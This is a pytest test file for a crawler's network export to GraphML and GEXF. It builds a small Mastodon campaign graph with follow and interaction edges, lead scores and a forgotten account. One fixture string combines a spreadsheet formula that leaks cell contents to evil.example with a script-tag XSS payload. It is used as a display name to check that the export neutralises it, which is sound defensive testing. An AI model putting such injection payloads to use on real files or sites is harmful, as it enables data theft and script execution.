"""The network export (`scout graph`): GraphML and GEXF files that networkx reads back
with the campaign's accounts, their follow and interaction edges and weights, the
lead and graph attributes, hostile strings neutralised and erased accounts gone."""

from __future__ import annotations

from pathlib import Path

import networkx as nx
import pytest

from crawler.app.graph_export import build_graph, write_graph
from crawler.core.config import Campaign, load_campaign
from crawler.core.items import FollowItem, InteractionItem, SeedListItem
from crawler.db.store import Store
from tests.support.cli import assert_one_line, run_in_process
from tests.support.items import T0, mastodon_account, mastodon_post

CAMPAIGN = '[campaign]\nname = "Clean Air for Europe"\nhashtags = ["CleanAir"]\n'
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")<script>alert(1)</script>\x07'

USERS = {  # user -> home instance
    "cleanaireci": "eu.social",  # the campaign's own account: the seed
    "anna": "eu.social",
    "ben": "climate.social",
    "clara": "eu.social",
    "mallory": "spam.example",  # follows the seed, hostile display name
    "gone": "eu.social",  # follows the seed, then asks to be forgotten
    "zoe": "eu.social",  # posts about football only: not in the campaign's network
}


def aid(user: str) -> str:
    return f"mastodon:https://{USERS[user]}/users/{user}"


def _post_id(user: str, n: int) -> str:
    return mastodon_post(user, n, USERS[user]).post_id


def _fill(db: Path, campaign: Campaign) -> None:
    with Store(db) as store:
        accounts = [mastodon_account(u, h) for u, h in USERS.items() if u != "mallory"]
        accounts.append(mastodon_account("mallory", USERS["mallory"], display_name=HOSTILE))
        store.upsert_accounts(accounts)
        store.upsert_posts(
            [
                mastodon_post("anna", 1, "eu.social", hashtags=["cleanair"], text="#CleanAir @ben"),
                mastodon_post("anna", 2, "eu.social", hashtags=["cleanair"], text="#CleanAir @ben"),
                mastodon_post("ben", 3, "climate.social", hashtags=["cleanair"], text="#CleanAir"),
                mastodon_post("zoe", 4, "eu.social", hashtags=["fussball"], text="#fussball"),
            ]
        )
        store.add_interactions(
            [
                InteractionItem(aid("anna"), aid("ben"), "mention", _post_id("anna", 1)),
                InteractionItem(aid("anna"), aid("ben"), "mention", _post_id("anna", 2)),
                InteractionItem(aid("ben"), aid("anna"), "reply", _post_id("ben", 3)),
                InteractionItem(aid("ben"), aid("gone"), "mention", _post_id("ben", 3)),
                # outside the network: zoe is no member, so this edge is not exported
                InteractionItem(aid("zoe"), aid("anna"), "mention", _post_id("zoe", 4)),
            ]
        )
        seed = aid("cleanaireci")
        store.add_follows(
            [
                FollowItem(aid(u), seed, "mastodon", T0)
                for u in ("anna", "clara", "mallory", "gone", "ben")
            ]
            + [FollowItem(aid("anna"), aid("ben"), "mastodon", T0)]
        )
        store.finish_seed_list(
            SeedListItem(
                list_id=f"{seed}#followers",
                campaign=campaign.name,
                seed="cleanaireci@eu.social",
                account_id=seed,
                kind="followers",
                platform="mastodon",
                status="complete",
                started_at=T0,
                items=5,
            )
        )
        # ben unfollowed the seed: a later complete walk no longer lists him
        store.con.execute(
            "UPDATE follows SET gone_at = ? WHERE src_account_id = ?", [T0, aid("ben")]
        )
        store.con.execute(
            "UPDATE follows SET gone_at = NULL WHERE src_account_id = ? AND dst_account_id = ?",
            [aid("ben"), aid("anna")],
        )
        store.tag_campaign_posts(campaign.name, campaign.matcher)
        # what the ranking and the graph step write
        store.con.execute(
            "INSERT INTO leads (campaign, account_id, platform, handle, lead_type, score, rank)"
            " VALUES (?, ?, 'mastodon', 'anna@eu.social', 'volunteer', 0.82, 1),"
            " (?, ?, 'mastodon', 'ben@climate.social', 'volunteer', 0.41, 2)",
            [campaign.name, aid("anna"), campaign.name, aid("ben")],
        )
        store.con.execute(
            "INSERT INTO account_graph (campaign, account_id, pagerank, community)"
            " VALUES (?, ?, 0.31, 1), (?, ?, 0.12, 1), (?, ?, 0.40, 2)",
            [campaign.name, aid("anna"), campaign.name, aid("ben")]
            + [campaign.name, aid("cleanaireci")],
        )
        store.con.execute(
            "UPDATE accounts SET role = 'individual', country = 'de', language"
            " = 'de' WHERE account_id = ?",
            [aid("anna")],
        )
        store.con.execute(
            "UPDATE accounts SET role = 'organization', org_type = 'ngo' WHERE account_id = ?",
            [aid("cleanaireci")],
        )
        store.forget([aid("gone"), "gone@eu.social"])


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path, Campaign]:
    path = tmp_path / "clean-air.toml"
    path.write_text(CAMPAIGN, encoding="utf-8")
    campaign = load_campaign(path)
    db = tmp_path / "scout.duckdb"
    _fill(db, campaign)
    return path, db, campaign


def _read(path: Path) -> nx.DiGraph:
    return nx.read_graphml(path) if path.suffix == ".graphml" else nx.read_gexf(path)


@pytest.mark.parametrize("suffix", [".graphml", ".gexf"])
def test_round_trip_nodes_edges_weights_attributes(
    world: tuple[Path, Path, Campaign], tmp_path: Path, suffix: str
) -> None:
    _path, db, campaign = world
    with Store(db, read_only=True) as store:
        out = write_graph(build_graph(store, campaign.name), tmp_path / f"network{suffix}")
    g = _read(out)
    assert g.is_directed()
    # zoe posts outside the campaign; "gone" was forgotten
    assert set(g.nodes) == {aid(u) for u in ("cleanaireci", "anna", "ben", "clara", "mallory")}
    edges = {(u, v): d for u, v, d in g.edges(data=True)}
    seed = aid("cleanaireci")
    assert set(edges) == {
        (aid("anna"), seed),
        (aid("clara"), seed),
        (aid("mallory"), seed),
        (aid("anna"), aid("ben")),  # follow + 2 mentions
        (aid("ben"), aid("anna")),  # a reply; ben's follow of the seed is gone
    }
    anna_ben = edges[(aid("anna"), aid("ben"))]
    assert float(anna_ben["weight"]) == 3
    assert (anna_ben["kind"], anna_ben["follow"], anna_ben["mention"]) == ("follow,mention", 1, 2)
    ben_anna = edges[(aid("ben"), aid("anna"))]
    assert (float(ben_anna["weight"]), ben_anna["kind"], ben_anna["reply"]) == (1, "reply", 1)
    assert float(edges[(aid("clara"), seed)]["weight"]) == 1

    anna = g.nodes[aid("anna")]
    assert anna["label"] == "anna@eu.social" and anna["handle"] == "anna@eu.social"
    assert (anna["lead_type"], anna["rank"], anna["community"]) == ("volunteer", 1, 1)
    assert anna["score"] == pytest.approx(0.82) and anna["pagerank"] == pytest.approx(0.31)
    assert (anna["role"], anna["country"], anna["language"]) == ("individual", "DE", "de")
    assert anna["seed"] is False and anna["platform"] == "mastodon"
    org = g.nodes[seed]
    assert (org["role"], org["org_type"], org["seed"], org["community"]) == (
        "organization", "ngo", True, 2,
    )  # fmt: skip
    assert "lead_type" not in org and "score" not in org  # unknown: left out, never null
    clara = g.nodes[aid("clara")]
    assert not {"lead_type", "rank", "community", "pagerank", "role"} & set(clara)


@pytest.mark.parametrize("suffix", [".graphml", ".gexf"])
def test_hostile_display_name_is_neutralised(
    world: tuple[Path, Path, Campaign], tmp_path: Path, suffix: str
) -> None:
    path, db, _campaign = world
    out = tmp_path / f"network{suffix}"
    code, stdout, stderr = run_in_process("graph", str(path), "--db", str(db), "--out", str(out))
    assert code == 0, stderr
    assert f"wrote 5 accounts and 5 edges to {out}" in stdout
    raw = out.read_text(encoding="utf-8")
    assert "<script>" not in raw and "&lt;script&gt;" in raw and "\x07" not in raw
    name = _read(out).nodes[aid("mallory")]["display_name"]
    assert name == "'" + HOSTILE.rstrip("\x07")  # a spreadsheet shows it as text


def test_cli_refuses_unknown_suffix_and_unwritable_path(
    world: tuple[Path, Path, Campaign], tmp_path: Path
) -> None:
    path, db, _campaign = world
    line = assert_one_line(
        *run_in_process("graph", str(path), "--db", str(db), "--out", str(tmp_path / "g.csv"))
    )
    assert "unknown graph format .csv: use .gexf, .graphml" in line
    missing = tmp_path / "no" / "such" / "g.graphml"
    line = assert_one_line(
        *run_in_process("graph", str(path), "--db", str(db), "--out", str(missing))
    )
    assert "--out" in line and "does not exist" in line
    assert not missing.parent.exists()


def test_graph_before_any_crawl_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "c.toml"
    path.write_text(CAMPAIGN, encoding="utf-8")
    out = tmp_path / "g.gexf"
    line = assert_one_line(
        *run_in_process("graph", str(path), "--db", str(tmp_path / "x.duckdb"), "--out", str(out))
    )
    assert "no database yet" in line and not out.exists()
